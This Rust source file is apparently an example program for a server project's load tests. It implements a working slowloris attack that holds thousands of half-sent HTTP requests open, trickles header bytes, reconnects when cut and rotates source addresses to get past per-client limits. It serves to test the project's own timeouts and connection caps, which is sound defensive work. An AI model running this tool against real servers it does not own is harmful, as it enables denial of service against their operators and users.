//! Attack generators for `scripts/load`'s attack scenarios (issue 13) that `wrk` cannot be:
//! it only ever sends whole requests.
//!
//! `half-open` holds a number of connections to the server, each with a partial request
//! sent (a request line and some headers, never the blank line that ends them): half of them
//! then trickle one more byte of a header every `--trickle` seconds, the other half send
//! nothing more. The server cuts a request whose headers are late (`HTTP_HEADER_TIMEOUT`),
//! and every connection it closes is opened again at once, so the count held stays up. The
//! first partial requests are spread over `--stagger` seconds (the connections open at once
//! and wait their turn), so the server's cuts, and the reopening, are spread evenly rather
//! than all 2,000 at the same instant every header timeout.
//!
//! ```text
//! cargo build --release --example attack
//! target/release/examples/attack half-open --addr 127.0.0.1:8000 --connections 2000 --seconds 30
//! ```
//!
//! It prints `READY held=N` once every connection is open, and at the end (`--seconds`, or
//! SIGINT) one line for the script: `RESULT opened=… closed=… answered=… failed=… min_held=…
//! max_held=…` (`answered`: connections the server sent bytes on, e.g. a 503 past
//! `MAX_CONNECTIONS`; `failed`: connects that did not succeed; the held range is sampled
//! every 50 ms after `READY`).

use std::net::SocketAddr;
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::Duration;

use clap::{Parser, Subcommand};
use tokio::net::TcpStream;
use tokio::time::{Instant, sleep, sleep_until};

#[derive(Parser)]
struct Cli {
    #[command(subcommand)]
    attack: Attack,
}

#[derive(Subcommand)]
enum Attack {
    /// Holds connections open with half-sent requests (slowloris).
    HalfOpen {
        /// The server's address.
        #[arg(long)]
        addr: SocketAddr,
        /// Addresses to connect from, taken in turn (any of 127/8 on loopback), so the server
        /// tells the attacker from its other clients as it would on a network; several hold
        /// more connections than the server allows one address (`MAX_CONNECTIONS_PER_CLIENT`).
        #[arg(long, value_delimiter = ',')]
        from: Vec<std::net::IpAddr>,
        /// How many connections to hold.
        #[arg(long, default_value_t = 2000)]
        connections: usize,
        /// How long to keep them held, seconds (or until SIGINT).
        #[arg(long)]
        seconds: f64,
        /// Seconds between two trickled bytes, on the trickling half.
        #[arg(long, default_value_t = 1.0)]
        trickle: f64,
        /// Seconds over which the first partial requests are spread (the server's header
        /// timeout spreads the cuts evenly).
        #[arg(long, default_value_t = 10.0)]
        stagger: f64,
    },
}

/// What the connections have seen, shared by all of them.
#[derive(Default)]
struct Counts {
    /// Connections open (their partial request sent, or about to be).
    held: AtomicU64,
    opened: AtomicU64,
    /// Closed by the server (end of stream or reset).
    closed: AtomicU64,
    /// The server sent bytes (a refusal) before closing.
    answered: AtomicU64,
    failed: AtomicU64,
}

/// A request's first line and headers, without the blank line that would end them.
const PARTIAL: &[u8] = b"POST /graphql HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\nX-Trickle: ";

#[tokio::main(flavor = "current_thread")]
async fn main() {
    let Attack::HalfOpen { addr, from, connections, seconds, trickle, stagger } = Cli::parse().attack;
    raise_open_files_limit();
    let counts = Arc::new(Counts::default());
    let end = Instant::now() + Duration::from_secs_f64(seconds);
    let trickle = Duration::from_secs_f64(trickle);
    for i in 0..connections {
        let counts = counts.clone();
        let trickle = (i % 2 == 1).then_some(trickle);
        let first = Duration::from_secs_f64(stagger * i as f64 / connections as f64);
        tokio::spawn(hold(addr, from.get(i % from.len().max(1)).copied(), trickle, first, counts));
    }
    let (mut min_held, mut max_held, mut ready) = (u64::MAX, 0, false);
    let mut interrupted = std::pin::pin!(tokio::signal::ctrl_c());
    while Instant::now() < end {
        tokio::select! {
            () = sleep(Duration::from_millis(50)) => {}
            _ = &mut interrupted => break,
        }
        let held = counts.held.load(Ordering::Relaxed);
        if !ready && held >= connections as u64 {
            ready = true;
            println!("READY held={held}");
        }
        if ready {
            min_held = min_held.min(held);
            max_held = max_held.max(held);
        }
    }
    let load = |n: &AtomicU64| n.load(Ordering::Relaxed);
    println!(
        "RESULT opened={} closed={} answered={} failed={} min_held={} max_held={}",
        load(&counts.opened),
        load(&counts.closed),
        load(&counts.answered),
        load(&counts.failed),
        if ready { min_held } else { 0 },
        max_held,
    );
}

/// A connection to `addr`, from `from` when given.
async fn connect(addr: SocketAddr, from: Option<std::net::IpAddr>) -> std::io::Result<TcpStream> {
    let Some(from) = from else { return TcpStream::connect(addr).await };
    let socket = if from.is_ipv4() { tokio::net::TcpSocket::new_v4()? } else { tokio::net::TcpSocket::new_v6()? };
    socket.bind(SocketAddr::new(from, 0))?;
    socket.connect(addr).await
}

/// Keeps one connection held until the process ends: opens it, sends the partial request
/// (the first time after `first`), trickles (or not) until the server closes it, and starts
/// over.
async fn hold(
    addr: SocketAddr,
    from: Option<std::net::IpAddr>,
    trickle: Option<Duration>,
    first: Duration,
    counts: Arc<Counts>,
) {
    let mut wait = Some(first);
    loop {
        let Ok(stream) = connect(addr, from).await else {
            counts.failed.fetch_add(1, Ordering::Relaxed);
            sleep(Duration::from_millis(100)).await;
            continue;
        };
        counts.opened.fetch_add(1, Ordering::Relaxed);
        counts.held.fetch_add(1, Ordering::Relaxed);
        if let Some(wait) = wait.take() {
            sleep(wait).await;
        }
        let answered = send(&stream, PARTIAL).await && until_closed(&stream, trickle).await;
        counts.held.fetch_sub(1, Ordering::Relaxed);
        counts.closed.fetch_add(1, Ordering::Relaxed);
        if answered {
            counts.answered.fetch_add(1, Ordering::Relaxed);
        }
    }
}

/// Trickles a byte every `trickle` (if any) until the server closes the connection; whether
/// it sent anything first.
async fn until_closed(stream: &TcpStream, trickle: Option<Duration>) -> bool {
    let mut answered = false;
    let mut next = trickle.map(|t| Instant::now() + t);
    let mut buf = [0u8; 1024];
    loop {
        tokio::select! {
            ready = stream.readable() => {
                if ready.is_err() {
                    return answered;
                }
                match stream.try_read(&mut buf) {
                    Ok(0) => return answered,
                    Ok(_) => answered = true,
                    Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => {}
                    Err(_) => return answered,
                }
            }
            () = sleep_until(next.unwrap_or_else(Instant::now)), if next.is_some() => {
                if !send(stream, b"a").await {
                    return answered;
                }
                next = trickle.map(|t| Instant::now() + t);
            }
        }
    }
}

/// Writes all of `bytes`; false once the connection is gone.
async fn send(stream: &TcpStream, mut bytes: &[u8]) -> bool {
    while !bytes.is_empty() {
        if stream.writable().await.is_err() {
            return false;
        }
        match stream.try_write(bytes) {
            Ok(n) => bytes = &bytes[n..],
            Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => {}
            Err(_) => return false,
        }
    }
    true
}

/// Two thousand connections need more descriptors than a shell's usual soft limit (1024):
/// raise it to the hard limit.
fn raise_open_files_limit() {
    let mut limit = libc::rlimit { rlim_cur: 0, rlim_max: 0 };
    // SAFETY: getrlimit and setrlimit only read and write the struct passed to them.
    unsafe {
        if libc::getrlimit(libc::RLIMIT_NOFILE, &mut limit) == 0 && limit.rlim_cur < limit.rlim_max {
            limit.rlim_cur = limit.rlim_max;
            libc::setrlimit(libc::RLIMIT_NOFILE, &limit);
        }
    }
}
